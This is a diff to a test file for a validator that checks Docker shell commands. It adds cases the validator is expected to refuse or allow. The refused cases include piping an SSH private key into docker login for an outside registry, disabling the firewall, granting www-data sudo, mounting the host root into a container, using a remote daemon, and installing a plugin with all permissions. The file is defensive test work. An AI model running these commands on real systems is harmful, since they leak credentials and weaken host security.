@@ -195,7 +195,7 @@ REFUSED = {
     "a password to any registry": (
         "head -n 2 ~/.ssh/id_ed25519 | docker login --username deploy --password-stdin registry.example.net",
         0,
-        "a host data/cli-rules.yaml does not list",
+        "a host not listed",
     ),
     "a terminal escape": ("printf '\\e]52;c;Y3Vy\\a'", 0, "before a character other than `n` or `t`"),
     "the installer replaceable before it runs": (
@@ -206,6 +206,29 @@ REFUSED = {
     ),
     "a service not Docker's": ("sudo systemctl disable --now ufw", 0, "not one of the names"),
     "a group not Docker's": ("sudo usermod -aG sudo www-data", 0, "not one of the names"),
+    # The fifteenth attacker's: names the shell fills, and docker reaching other machines.
+    "the last word before, in a value": ("echo 'a['\ntries=\"${_}\"", 1, "`$_`: a name the pages neither"),
+    "a name the shell fills by itself": ('echo "$BASH_COMMAND"', 0, "`$BASH_COMMAND`"),
+    "the home folder into a container": ('docker container run --rm -v "$HOME":/w alpine ls /w', 0, "host's `$HOME`"),
+    "the root into a container": (
+        "docker container run --rm --mount type=bind,src=/,dst=/h alpine ls",
+        0,
+        "host's `/`",
+    ),
+    "another daemon for every command": ("docker -H tcp://build.example.net:2375 image ls", 0, "another daemon"),
+    "a password typed to any host": ("docker login registry.example.net -u <account>", 0, "a host not listed"),
+    "a push to any registry": ("docker image push registry.example.net/share/app:1", 0, "does not list"),
+    "a Compose file from elsewhere": ("docker compose -f oci://registry.example.net/demo:1 up -d", 0, "reads its file"),
+    "a swarm of another's": (
+        "docker swarm join --token <token> manager.example.net:2377",
+        0,
+        "joins the reader's machine",
+    ),
+    "a plugin not listed": (
+        "docker plugin install --grant-all-permissions example/fastlog",
+        0,
+        "`plugins` does not list",
+    ),
 }
 
 
@@ -242,6 +265,9 @@ ALLOWED = {
     "a build secret from home": 'docker buildx build --secret id=npmrc,src="$HOME/.npmrc" -t myapp .',
     "an address in a note written here": "echo 'see https://docs.docker.com' > notes.txt",
     "a container's own paths into a file here": "docker container run --rm alpine ls /etc > files.txt",
+    "the current folder into a container": 'docker container run --rm -v "$(pwd)":/src -v pgdata:/data alpine ls',
+    "a push to the reader's registry": "docker image push <registry>/app:1",
+    "a daemon of the reader's": "docker -H ssh://<host> image ls",
 }
 
 
